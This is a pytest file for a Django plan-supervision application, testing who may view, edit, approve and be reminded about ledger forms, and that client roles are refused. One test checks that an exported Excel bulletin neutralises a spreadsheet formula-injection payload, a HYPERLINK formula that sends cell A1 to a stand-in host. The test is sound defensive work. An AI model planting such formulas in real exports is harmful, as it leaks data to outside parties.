"""Who may do what in plan supervision (issue 12): typed actors, the fill grant that names a form's
reporters, declared routes, and pending work only for people who can act on it."""

import io
from datetime import timedelta

import pytest
import time_machine
from django.utils import timezone
from openpyxl import load_workbook

from shuxiang.core.actors import OPERATOR
from shuxiang.core.models import AuditEntry, Unit
from shuxiang.plan import assignments, importers, services
from shuxiang.plan.loader import DEFAULT_FILE, load_file
from shuxiang.plan.models import LedgerEntry, NetworkCoverage
from shuxiang.plan.tasks import TASKS


def unit_form(round_, unit, number=None):
    qs = LedgerEntry.objects.filter(round=round_, unit=unit)
    return qs.get(task__number=number) if number else qs.order_by("task__number").first()


@pytest.mark.parametrize("actor", ["cli", "plan", "", None])
def test_a_plan_service_refuses_a_bare_string_or_none_as_actor(round_, places, plan, actor):
    form = LedgerEntry.objects.filter(round=round_, place=places.township_a).first()
    calls = [
        lambda: services.do_save_coverage(places.hamlet_a, actor=actor, has_fibre=True),
        lambda: services.do_open_round(
            plan, year=2025, quarter=4, deadline=timezone.now() + timedelta(days=9), actor=actor
        ),
        lambda: services.do_save_entry(form, actor=actor, progress="x"),
        lambda: services.do_approve_entry(form, actor=actor),
        lambda: services.remind_due_entries(actor=actor),
        lambda: load_file(DEFAULT_FILE, actor=actor),
        lambda: importers.import_coverage(b"", "x.csv", actor=actor),
        lambda: assignments.do_assign(
            actor=actor, unit=None, title="x", description="x", deadline=timezone.now()
        ),
    ]
    for call in calls:
        with pytest.raises(TypeError):
            call()
    assert not NetworkCoverage.objects.exists()
    form.refresh_from_db()
    assert form.progress == ""


def test_editable_in_the_api_is_what_a_save_does_for_a_department_user_on_another_units_form(
    round_, cast, api_for
):
    own_unit = cast.department.unit  # 区农业农村局
    other = unit_form(round_, Unit.objects.get(short_name="区商务局"))
    own = unit_form(round_, own_unit)
    api = api_for(cast.department)

    shown = api.get(f"/api/v1/plan/ledgers/{other.pk}/")
    assert shown.status_code == 200 and shown.json()["editable"] is False
    saved = api.patch(f"/api/v1/plan/ledgers/{other.pk}/", {"progress": "代填"}, format="json")
    assert saved.status_code == 403
    other.refresh_from_db()
    assert other.progress == ""

    shown = api.get(f"/api/v1/plan/ledgers/{own.pk}/")
    assert shown.json()["editable"] is True
    saved = api.patch(f"/api/v1/plan/ledgers/{own.pk}/", {"progress": "本局推进"}, format="json")
    assert saved.status_code == 200 and saved.json()["editable"] is True

    listed = {
        row["id"]: row["editable"]
        for row in api.get("/api/v1/plan/ledgers/?page_size=500&period=2025Q3").json()["results"]
    }
    assert listed[other.pk] is False and listed[own.pk] is True
    assert {pk for pk, editable in listed.items() if editable} == set(
        LedgerEntry.objects.filter(round=round_, unit=own_unit).values_list("pk", flat=True)
    )


def test_editable_is_false_for_a_township_officer_on_a_village_form_and_the_save_is_refused(
    round_, places, cast, api_for
):
    village_form = LedgerEntry.objects.get(round=round_, task__number=11, place=places.village_a)
    township = api_for(cast.township_a)
    assert township.get(f"/api/v1/plan/ledgers/{village_form.pk}/").json()["editable"] is False
    assert (
        township.patch(
            f"/api/v1/plan/ledgers/{village_form.pk}/", {"progress": "代填"}, format="json"
        ).status_code
        == 403
    )
    village = api_for(cast.village_a)
    assert village.get(f"/api/v1/plan/ledgers/{village_form.pk}/").json()["editable"] is True


def test_the_ledger_page_offers_the_edit_form_only_to_the_forms_reporter(round_, cast, client_for):
    other = unit_form(round_, Unit.objects.get(short_name="区商务局"))
    page = client_for(cast.department).get(f"/plan/ledgers/{other.pk}/").content.decode()
    assert 'id="ledger-form"' not in page
    own = unit_form(round_, cast.department.unit)
    page = client_for(cast.department).get(f"/plan/ledgers/{own.pk}/").content.decode()
    assert 'id="ledger-form"' in page


def test_pending_lines_appear_only_for_people_who_can_act_on_them(round_, places, cast, client_for):
    form = LedgerEntry.objects.get(round=round_, task__number=11, place=places.village_a)
    services.do_save_entry(form, actor=cast.village_a, progress="建站")
    services.do_submit_entry(form, actor=cast.village_a)
    pages = {
        name: client_for(user).get("/").content.decode()
        for name, user in (
            ("grid", cast.grid_a),
            ("village", cast.village_a),
            ("township", cast.township_a),
            ("department", cast.department),
        )
    }
    assert "待填报的工作台账" not in pages["grid"] and "待审批的工作台账" not in pages["grid"]
    assert "待填报的工作台账" in pages["village"] and "待审批的工作台账" not in pages["village"]
    assert "待审批的工作台账" in pages["township"]
    assert "待填报的工作台账" in pages["department"] and "待审批的工作台账" not in pages["department"]
    # "Waiting for me" lists nothing for someone who approves nothing.
    link = f"/plan/ledgers/{form.pk}/"
    assert link not in client_for(cast.village_a).get("/plan/ledgers/?waiting=true").content.decode()
    assert link in client_for(cast.township_a).get("/plan/ledgers/?waiting=true").content.decode()


def test_reminders_go_only_to_people_who_may_fill_the_form(round_, places, cast):
    with time_machine.travel(round_.deadline - timedelta(days=1), tick=False):
        services.remind_due_entries(actor=TASKS)
    assert cast.grid_a.notifications.count() == 0  # same village as the cadre, but no fill grant
    assert cast.village_a.notifications.filter(kind="plan.reminder").count() == 2
    own_forms = LedgerEntry.objects.filter(round=round_, unit=cast.department.unit).count()
    assert cast.department.notifications.filter(kind="plan.reminder").count() == own_forms


@pytest.mark.parametrize(
    "url",
    [
        "/plan/",
        "/plan/tasks/1/",
        "/plan/ledgers/",
        "/plan/dashboard/",
        "/plan/assessment/",
        "/indicators/",
    ],
)
def test_client_roles_do_not_get_the_plan_pages(plan, cast, client_for, url):
    for client in (cast.bank, cast.producer, cast.feed):
        assert client_for(client).get(url).status_code == 403


def test_client_roles_do_not_read_the_plan_or_indicators_over_the_api(round_, cast, api_for):
    entry = LedgerEntry.objects.filter(round=round_).first()
    for client in (cast.bank, cast.producer, cast.gateway, cast.feed):
        api = api_for(client)
        for url in (
            "/api/v1/plan/tasks/",
            "/api/v1/plan/ledgers/",
            f"/api/v1/plan/ledgers/{entry.pk}/",
            "/api/v1/indicators/",
            "/api/v1/indicators/fibre_hamlets/values/",
        ):
            assert api.get(url).status_code == 403, (client.username, url)
        assert api.post(f"/api/v1/plan/ledgers/{entry.pk}/submit/").status_code == 403


def test_only_the_district_opens_rounds_and_reads_the_bulletin(round_, cast, client_for):
    for user in (cast.township_a, cast.department, cast.village_a):
        web = client_for(user)
        assert web.get("/plan/rounds/").status_code == 403
        assert web.post("/plan/rounds/", {"year": 2025, "quarter": 4}).status_code == 403
        assert web.get(f"/plan/rounds/{round_.pk}/bulletin.xlsx").status_code == 403
    assert client_for(cast.district).get("/plan/rounds/").status_code == 200


def test_a_ledger_save_is_audited_under_the_person_also_for_the_indicator_values(round_, places, cast):
    form = LedgerEntry.objects.get(round=round_, task__number=8, place=places.township_a)
    services.do_save_entry(form, actor=cast.township_a, progress="推进", values={"pig_stock": 12})
    value_entry = AuditEntry.objects.get(object_type="indicators.datavalue")
    assert value_entry.actor == cast.township_a and "plan" in value_entry.actor_label
    form_entry = AuditEntry.objects.filter(object_type="plan.ledgerentry").latest("at")
    assert form_entry.actor == cast.township_a


def test_the_forms_history_is_shown_to_its_reporter(round_, places, cast, client_for):
    form = LedgerEntry.objects.get(round=round_, task__number=1, place=places.township_a)
    services.do_save_entry(form, actor=cast.township_a, progress="推进")
    services.do_submit_entry(form, actor=cast.township_a)
    page = client_for(cast.township_a).get(f"/plan/ledgers/{form.pk}/").content.decode()
    assert "t_quanjiaohe · 修改</li>" in page and "t_quanjiaohe · 状态变更：待填报 → 已报送" in page


def test_a_typed_formula_in_a_ledger_stays_text_in_the_bulletin_workbook(round_, places, cast, client_for):
    form = LedgerEntry.objects.get(round=round_, task__number=1, place=places.township_a)
    services.do_save_entry(
        form, actor=cast.township_a, progress="=1+1", problems='=HYPERLINK("http://x.example/?"&A1,"点此")'
    )
    services.do_submit_entry(form, actor=cast.township_a)
    data = client_for(cast.district).get(f"/plan/rounds/{round_.pk}/bulletin.xlsx").content
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    typed = [c for c in cells if str(c.value).startswith("=")]
    assert {c.value for c in typed} == {"=1+1", '=HYPERLINK("http://x.example/?"&A1,"点此")'}
    assert all(c.data_type == "s" and c.quotePrefix for c in typed)


def test_the_plan_command_runs_as_the_operator_and_is_audited_so(places, capsys):
    from django.core.management import call_command

    call_command("plan", "load", str(DEFAULT_FILE))
    entry = AuditEntry.objects.filter(object_type="plan.plan").get()
    assert entry.actor is None and entry.actor_label == OPERATOR.audit_label
